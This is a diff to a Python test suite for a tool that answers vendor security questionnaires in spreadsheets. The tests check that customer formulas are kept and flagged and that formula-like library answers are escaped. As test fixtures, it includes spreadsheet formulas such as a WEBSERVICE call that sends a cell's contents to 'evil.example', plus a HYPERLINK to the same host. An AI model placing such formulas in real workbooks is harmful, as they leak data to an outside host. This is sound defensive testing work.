@@ -91,7 +91,9 @@ def test_a_formula_in_their_workbook_is_kept_not_matched_and_external_calls_are_
         "when it is opened; kept as it was, not answered\n"
         f"{theirs}: Security!B5: warning: the formula calls DDE, which can reach outside the workbook "
         "when it is opened; kept as it was, not answered\n")
-    assert result.stdout.startswith("3 question(s) on 1 sheet(s) (Security):")
+    assert result.stdout.splitlines()[0] == (
+        "3 question(s) on 1 sheet(s) (Security): 2 answered, 1 for review; 3 of their formula(s) can reach outside "
+        "the workbook, kept as they were (see the warnings).")
     filled = openpyxl.load_workbook(out)["Security"]
     assert filled["A3"].value == '="Do you support SAML SSO?"' and filled["A3"].data_type == "f"
     assert filled["B4"].value == '=WEBSERVICE("http://evil.example/"&A2)'
@@ -481,3 +483,18 @@ def test_the_answer_library_never_writes_a_formula(tmp_path: Path) -> None:
         '=HYPERLINK("http://evil.example","see")', "-1 @ref"]
     rows = list(csv.reader(io.StringIO(library_csv(answers).decode("utf-8-sig"), newline="")))
     assert rows[1][4:] == ['\'=HYPERLINK("http://evil.example","see")', "'-1 @ref"]
+
+
+def test_excel_sep_line_and_a_title_line_above_a_tab_separated_header(tmp_path: Path) -> None:
+    hinted = tmp_path / "hinted.csv"
+    hinted.write_text("sep=;\nQuestion;Notes\nIs customer data encrypted at rest?;a, b\n", encoding="utf-8")
+    titled = tmp_path / "titled.csv"
+    titled.write_text("Vendor questionnaire\nQuestion\tNotes\nIs customer data encrypted at rest?\ta, b, c\n",
+                      encoding="utf-8")
+    for theirs, first in ((hinted, ["Question", "Notes"]), (titled, ["Vendor questionnaire", None])):
+        out = tmp_path / f"{theirs.stem}.xlsx"
+        assert run(MINIMAL, theirs, "-o", out).exit_code == 0
+        rows = [[c.value for c in row] for row in openpyxl.load_workbook(out).active.iter_rows()]
+        assert rows[0][:2] == first
+        assert rows[-1][:3] == ["Is customer data encrypted at rest?", rows[-1][1], "Yes"]
+        assert rows[-1][1] in ("a, b", "a, b, c")
